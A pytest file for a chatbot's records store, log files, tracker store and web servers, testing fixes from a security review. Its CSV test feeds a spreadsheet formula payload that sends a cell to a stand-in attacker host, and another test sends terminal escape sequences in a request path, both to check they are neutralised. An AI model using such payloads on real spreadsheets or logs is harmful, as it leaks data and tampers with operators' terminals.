"""Reliability and hygiene fixes from the security review (L1, L7, M3, M5, M6):
the records outbox, Alembic and PostgreSQL failures, CSV export, log files,
the tracker store's ids, the action server's token, the chat page server."""

from __future__ import annotations

import asyncio
import csv
import http.client
import json
import os
import socket
import stat
import subprocess
import sys
import threading
import time
from datetime import date, timedelta

import pytest
from conftest import REPO, free_port
from sqlalchemy import create_engine, text

from bot import config
from bot.records import cli
from bot.records.models import VERSION_TABLE
from bot.records.report import csv_cell, write_csv
from bot.records.store import QUEUED, WRITTEN, RecordStore, make_engine
from bot.serving.logfiles import RotatingWriter, purge_logs, rotated_logs


def _answer(question: str = "relative filming during set-up") -> dict:
    return {"question": question, "intent": "describe_situation", "confidence": 0.9,
            "scenario": "companion-filming-setup", "out_of_scope": False, "citations": ["SoR-2019 5.10"]}


def _record(store: RecordStore, question: str = "relative filming during set-up") -> str:
    return store.record_answer(_answer(question), channel="rest", latency_ms=5.0, clarified=False,
                               model_version="m", knowledge_version="k")


# --- records store --------------------------------------------------------------


def test_outbox_survives_a_crash_while_it_is_rewritten(tmp_path, outbox, monkeypatch):
    down = RecordStore(f"sqlite:///{tmp_path / 'missing' / 'x.db'}", outbox_path=outbox, retry_after_s=0)
    for n in range(3):
        _record(down, f"question {n}")
    before = outbox.read_text()
    assert len(before.splitlines()) == 3
    (tmp_path / "missing").mkdir()  # the database is back...

    def crash(*_args):  # ...but the process dies just before the new outbox is renamed into place
        raise OSError("simulated crash")

    monkeypatch.setattr("bot.records.store.os.replace", crash)
    with pytest.raises(OSError):
        down.flush_outbox()
    assert outbox.read_text() == before  # whole: nothing truncated, nothing half-written
    assert [p.name for p in outbox.parent.iterdir() if p.name.endswith(".tmp")] == []
    monkeypatch.undo()
    assert down.flush_outbox() == 0  # the three were written before the crash; replaying skips them
    assert down.pending() == 0 and stat.S_IMODE(outbox.stat().st_mode) == 0o600
    down.dispose()


def test_a_schema_this_release_cannot_migrate_queues_the_record(db_url, outbox):
    RecordStore(db_url, outbox_path=outbox).ensure_schema()
    engine = create_engine(db_url, future=True)
    with engine.begin() as conn:  # as if a newer release had migrated the database
        conn.execute(text(f"UPDATE {VERSION_TABLE} SET version_num = 'ffffffffffff'"))
    store = RecordStore(db_url, outbox_path=outbox, retry_after_s=0)
    answer_id = _record(store, "kept for later")
    assert answer_id and store.pending() == 1
    assert json.loads(outbox.read_text())["row"]["question"] == "kept for later"
    status = cli.main(["records", "flush", "--db", db_url])
    assert status == cli.EXIT_DB  # a clear error, not a traceback
    store.dispose()
    engine.dispose()


def test_postgresql_statements_time_out_and_the_record_is_queued(pg_url, outbox):
    store = RecordStore(pg_url, outbox_path=outbox, retry_after_s=0)
    store.ensure_schema()
    with store.engine.connect() as conn:
        assert conn.execute(text("SHOW statement_timeout")).scalar_one() == "5s"
        assert conn.execute(text("SHOW search_path")).scalar_one().startswith("t_")  # URL options kept
    locker = create_engine(pg_url, future=True)
    with locker.connect() as conn:
        conn.execute(text("LOCK TABLE rec_answers IN ACCESS EXCLUSIVE MODE"))  # held until rollback
        result = store._write("answer", {**_row(), "question": "while locked"})
        conn.rollback()
    assert result == QUEUED and store.pending() == 1
    assert store.flush_outbox() == 1 and store.pending() == 0
    store.dispose()
    locker.dispose()


def _row() -> dict:
    from bot.records.models import new_id, utcnow

    return {"id": new_id(), "created_at": utcnow().isoformat(), "channel": "rest", "question": "",
            "intent": None, "confidence": None, "scenario": None, "out_of_scope": False, "fallback": True,
            "clarified": False, "citations": "[]", "latency_ms": None, "model_version": None,
            "knowledge_version": None}


def test_sqlite_file_is_created_owner_only(tmp_path):
    old = os.umask(0o022)
    try:
        engine = make_engine(f"sqlite:///{tmp_path / 'new.db'}")
        with engine.connect() as conn:
            conn.execute(text("select 1"))
        engine.dispose()
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.db").stat().st_mode) == 0o600


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?"&A1,"Open guidance")', "+1+1", "-2+3",
                                   "@SUM(A1:A9)"])
def test_csv_export_keeps_formulas_as_text(sqlite_url, outbox, tmp_path, typed):
    store = RecordStore(sqlite_url, outbox_path=outbox)
    assert store._write("answer", {**_row(), "question": typed}) == WRITTEN
    store.dispose()
    path = tmp_path / "rows.csv"
    today = date.today()
    assert write_csv(make_engine(sqlite_url), today - timedelta(days=1), today + timedelta(days=1), path) == 1
    row = next(csv.DictReader(path.open(encoding="utf-8")))
    assert row["question"] == "'" + typed


def test_csv_cell_leaves_ordinary_values_alone():
    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell("pt filming, SoR-2019 5.10") == "pt filming, SoR-2019 5.10"
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) is None


# --- log files ------------------------------------------------------------------


def test_log_writer_rotates_by_size_and_day_and_keeps_files_private(tmp_path):
    log = tmp_path / "rasa.log"
    writer = RotatingWriter(log, max_bytes=2048, backups=3)
    day = 1_700_000_000.0
    for n in range(200):
        writer.write(f"line {n:04d} {'x' * 40}\n".encode(), now=day)
    writer.write(b"next day\n", now=day + 86400)
    writer.close()
    names = sorted(p.name for p in tmp_path.iterdir())
    assert names == ["rasa.log", "rasa.log.1", "rasa.log.2", "rasa.log.3"]  # the oldest were dropped
    assert log.read_text() == "next day\n"
    assert all(p.stat().st_size <= 2048 for p in tmp_path.iterdir())
    assert "line 0199" in (tmp_path / "rasa.log.1").read_text()
    assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in tmp_path.iterdir()} == {"0o600"}


def test_log_pipe_copies_a_server_output_line_by_line(tmp_path):
    log = tmp_path / "actions.log"
    done = subprocess.run([sys.executable, "-m", "bot.serving.logfiles", str(log)], cwd=REPO,
                          input=b"one\ntwo\n", capture_output=True, timeout=60)
    assert done.returncode == 0 and log.read_bytes() == b"one\ntwo\n"


def test_records_purge_deletes_rotated_logs_past_retention(tmp_path, monkeypatch, capsys):
    var = tmp_path / "var"
    var.mkdir()
    monkeypatch.setenv("ASSISTANT_VAR_DIR", str(var))
    config.reload()
    now = time.time()
    for name, age_days in [("rasa.log", 200), ("rasa.log.1", 10), ("rasa.log.2", 100), ("actions.log.7", 95),
                           ("notes.txt", 300)]:
        (var / name).write_text("x")
        os.utime(var / name, (now - age_days * 86400, now - age_days * 86400))
    assert purge_logs(var, 90, dry_run=True) == 2 and len(rotated_logs(var)) == 3
    assert cli.main(["records", "purge", "--days", "90", "--db", f"sqlite:///{tmp_path / 'r.db'}"]) == 0
    assert "2 from log files" in capsys.readouterr().out
    assert sorted(p.name for p in var.iterdir() if "log" in p.name) == ["rasa.log", "rasa.log.1"]


# --- tracker store ids ----------------------------------------------------------


def test_a_pseudonym_sent_as_a_sender_id_opens_a_new_conversation(sqlite_url, monkeypatch):
    from rasa.shared.core.domain import Domain
    from rasa.shared.core.events import UserUttered
    from rasa.shared.core.trackers import DialogueStateTracker

    from bot.redaction import uninstall_log_redaction
    from rasa_addons.tracker_store import RedactingSQLTrackerStore, StoredKey

    monkeypatch.setenv("SENDER_ID_KEY", "pseudonym-test-key-" + "k" * 32)
    config.reload()
    try:
        store = RedactingSQLTrackerStore(domain=Domain.empty(), host=sqlite_url)
        tracker = DialogueStateTracker("ward-pc-7", [])
        tracker.update(UserUttered("relative filming", parse_data={"text": "relative filming"}))
        asyncio.run(store.save(tracker))
        (key,) = asyncio.run(store.keys())
        assert isinstance(key, StoredKey) and key.startswith("p-")
        assert asyncio.run(store.retrieve(key)).latest_message.text == "relative filming"  # internal caller
        as_client = asyncio.run(store.retrieve(str(key)))  # the same id typed by a client
        assert as_client is None or as_client.latest_message.text != "relative filming"
        assert store.sender_key(str(key)) != key
        store.engine.dispose()
    finally:
        uninstall_log_redaction()


# --- action server --------------------------------------------------------------


def test_action_server_will_not_start_without_a_token():
    env = {k: v for k, v in os.environ.items() if k != "ACTION_SERVER_TOKEN"}
    for token in (None, "short"):
        if token:
            env["ACTION_SERVER_TOKEN"] = token
        done = subprocess.run([sys.executable, "-m", "rasa_addons.action_server", "--actions", "actions",
                               "--port", str(free_port())], cwd=REPO, env=env, capture_output=True, text=True,
                              timeout=120)
        assert done.returncode == 2 and "ACTION_SERVER_TOKEN" in done.stderr


# --- chat page server -----------------------------------------------------------


@pytest.fixture()
def page(tmp_path):
    from bot.serving.web import make_server

    root = tmp_path / "web"
    root.mkdir()
    (root / "index.html").write_text("<!doctype html><title>t</title>")
    server = make_server(free_port(), "http://127.0.0.1:5005", root)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def test_page_server_says_which_methods_it_allows(page):
    conn = http.client.HTTPConnection("127.0.0.1", page, timeout=10)
    conn.request("POST", "/", body=b"x")
    resp = conn.getresponse()
    assert resp.status == 405 and resp.getheader("Allow") == "GET, HEAD"


def test_page_server_log_lines_show_control_characters_escaped(page, capfd):
    with socket.create_connection(("127.0.0.1", page), timeout=10) as s:
        s.sendall(b"GET /\x1b[2J\x1b]0;pwned\x07/x HTTP/1.0\r\n\r\n")
        s.recv(4096)
    time.sleep(0.2)  # the handler thread writes its log line after answering
    err = capfd.readouterr().err
    assert "\\x1b[2J" in err and "\x1b" not in err and "\x07" not in err


def test_page_server_drops_an_idle_connection(page):
    with socket.create_connection(("127.0.0.1", page), timeout=60) as s:
        s.sendall(b"GET / HTTP/1.1\r\n")  # never finishes the request
        assert s.recv(1024) == b""  # closed by the server (after its 15 s timeout), not left open
